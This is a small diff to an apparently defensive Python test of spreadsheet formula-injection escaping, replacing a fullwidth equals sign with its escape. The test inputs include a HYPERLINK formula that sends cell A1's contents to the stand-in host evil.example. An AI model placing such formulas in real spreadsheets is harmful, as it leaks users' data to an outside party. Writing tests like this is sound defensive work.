@@ -75,7 +75,7 @@ def _written(value: object) -> str:
         "\t=1+1",
         "\r=1+1",
         "\n=1+1",
-        "＝1+1",
+        "\uff1d1+1",
         '=HYPERLINK("http://evil.example?x="&A1;"click")',
     ],
 )
